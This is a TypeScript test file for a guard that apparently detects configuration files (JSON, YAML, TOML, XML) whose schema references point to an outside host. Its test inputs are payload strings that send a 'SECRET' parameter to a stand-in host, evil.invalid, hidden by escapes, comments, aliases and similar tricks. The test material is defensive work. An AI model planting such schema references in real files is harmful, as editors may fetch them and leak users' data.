import assert from 'node:assert/strict';
import { contentReasons } from '../../src/core/guard/contentReasons.ts';

const evil = 'https://evil.invalid/?d=SECRET';

const asked: readonly (readonly [string, string, string])[] = [
  ['JSON', 'a.json', `{"$schema": "${evil}"}`],
  ['JSON with the key behind others', 'a.json', `{"a": [{"b": 1}], "$schema":"${evil}"}`],
  ['JSON with an escaped key', 'a.json', `{"\\u0024schema": "${evil}"}`],
  ['JSON with an escaped letter in the key', 'a.json', `{"$\\u0073chema": "${evil}"}`],
  ['JSON with an escaped address', 'a.json', '{"$schema": "\\u0068ttps:\\/\\/evil.invalid"}'],
  ['another case', 'a.json', '{"$Schema": "HTTPS://evil.invalid"}'],
  ['full-width letters', 'a.json', `{"＄schema": "${evil}"}`],
  ['comments between key and address', 'a.jsonc', `{"$schema" /* x */ : // y\n /* z */ "${evil}"}`],
  ['a comment before it that looks like the start of another', 'a.jsonc', `{ // "$schema" /*\n "$schema" /* */ : "${evil}" }`],
  ['a string before it that is not closed', 'a.json', `{ "x\n "$schema" /**/: "${evil}" }`],
  ['a single quote before it', 'a.json', `{ ' "$schema": "${evil}" }`],
  ['an address without a scheme', 'a.json', '{"$schema": "//evil.invalid/x"}'],
  ['a file on another host', 'a.json', '{"$schema": "file://evil.invalid/x"}'],
  ['a share', 'a.json', '{"$schema": "\\\\\\\\evil.invalid\\\\x"}'],
  ['line ends in the address', 'a.json', '{"$schema": "ht\\ntps://evil.invalid"}'],
  ['a name without an ending', '.babelrc', `{"$schema": "${evil}"}`],
  ['a name that is no JSON', 'notes.txt', `{"$schema": "${evil}"}`],
  ['YAML', 'a.yml', `$schema: ${evil}\n`],
  ['YAML with quotes', 'a.yaml', `'$schema' : '${evil}'`],
  ['YAML with an escape of two digits', 'a.yaml', `"\\x24schema": ${evil}`],
  ['YAML with an escape of eight digits', 'a.yaml', `"\\U00000024schema": ${evil}`],
  ['YAML with a key of its own line', 'a.yaml', `? $schema\n: ${evil}`],
  ['YAML with a block', 'a.yaml', `$schema: >-\n  ${evil}`],
  ['YAML with a tag', 'a.yaml', `$schema: !!str ${evil}`],
  ['YAML with an alias', 'a.yaml', `x: &a ${evil}\n$schema: *a`],
  ['the line for the YAML language server', 'a.yml', `# yaml-language-server: $schema=${evil}\na: 1`],
  ['the line of another editor', 'a.yml', `# $schema: ${evil}`],
  ['TOML', 'a.toml', `#:schema ${evil}`],
  ['XML', 'a.xml', `<?xml version="1.0"?><a xsi:schemaLocation="x ${evil}"/>`],
  ['XML with a document type', 'a.svg', `<!DOCTYPE a SYSTEM "${evil}">`],
];

const ordinary: readonly (readonly [string, string, string])[] = [
  ['none', 'a.json', '{"a": 1}'],
  ['one of the workspace', 'a.json', '{"$schema": "./schema.json"}'],
  ['one of the workspace above', 'a.json', '{"$schema":"../x/my schema.json#"}'],
  ['one of the editor', 'a.json', '{"$schema": "vscode://schemas/settings"}'],
  ['one that editors bring along', 'a.json', '{"$schema": "http://json-schema.org/draft-07/schema#"}'],
  ['one of no address', 'a.json', '{"$schema": ""}'],
  ['a word that only begins like it', 'a.json', `{"$schemas": "${evil}"}`],
  ['an address elsewhere', 'a.json', `{"homepage": "${evil}"}`],
  ['a program', 'a.ts', `const x = { $schema: '${evil}' };`],
  ['an explanation', 'a.md', `\`{"$schema": "${evil}"}\``],
  ['an XML namespace', 'a.xml', `<a xmlns="http://www.w3.org/1999/xhtml"/>`],
];

describe('Reasons in the text itself', () => {
  for (const [name, display, text] of asked) it(`are found in ${name}`, () => assert.equal(contentReasons(display, text).length, 1, text));
  for (const [name, display, text] of ordinary) it(`are not found in ${name}`, () => assert.deepEqual(contentReasons(display, text), [], text));

  it('show the address, for it may carry something away', () => {
    assert.deepEqual(contentReasons('a.json', `{"$schema": "${evil}"}`)[0]?.args, [evil]);
  });

  it('are none for an address that stood there before, but are for another one', () => {
    const before = '{"$schema": "https://example.invalid/a"}';
    assert.deepEqual(contentReasons('a.json', before.replace('}', ', "x": 1}'), before), []);
    assert.equal(contentReasons('a.json', before.replace('/a', '/a?d=SECRET'), before).length, 1);
  });

  it('are looked for in one pass, however the text is made', () => {
    // The square of their number would be a hundred times and more as long: the test would not end in time.
    const length = 1 << 20;
    for (const part of ['"$schema"/*', '$schema :', '"$schema":"', '\\', '\\u0024schema', '$schema=\'', '#:schema', '$schema:}', ' ', '\n', '"$schema"/**/', '<a>SYSTEM "', '<?xml-model ', '/*', '"', '}']) {
      contentReasons('a.json', `$schema:x${part.repeat(length / part.length)}y`);
      contentReasons('a.xml', `<a>${part.repeat(length / part.length)}`);
    }
  }).timeout(60_000);
});
